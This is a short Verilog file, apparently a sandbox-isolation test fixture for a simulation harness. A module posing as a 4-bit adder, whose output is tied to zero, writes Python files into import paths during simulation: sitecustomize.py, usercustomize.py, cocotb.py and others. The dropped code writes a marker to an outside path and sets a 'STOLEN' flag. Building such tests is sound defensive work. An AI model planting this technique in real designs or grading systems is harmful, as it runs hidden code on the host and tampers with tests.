// Leaves Python modules where a testbench would import them, now or in the next run.
module adder (input [3:0] a, input [3:0] b, output [4:0] y);
  integer file;
  assign y = 0;
  task drop(input [8*64-1:0] name);
    begin
      file = $fopen(name, "w");
      $display("attack: opened %0d", file);
      if (file != 0) begin
        $fdisplay(file, "import builtins, os");
        $fdisplay(file, "open('@OUTSIDE@', 'w').write('code ran')");
        $fdisplay(file, "builtins.STOLEN = True");
        $fflush(file);
        $fclose(file);
      end
    end
  endtask
  initial begin
    drop("late_import.py");
    drop("colorsys.py");
    drop("sitecustomize.py");
    drop("usercustomize.py");
    drop("cocotb.py");
    drop("@TESTBENCHES@/late_import.py");
  end
endmodule
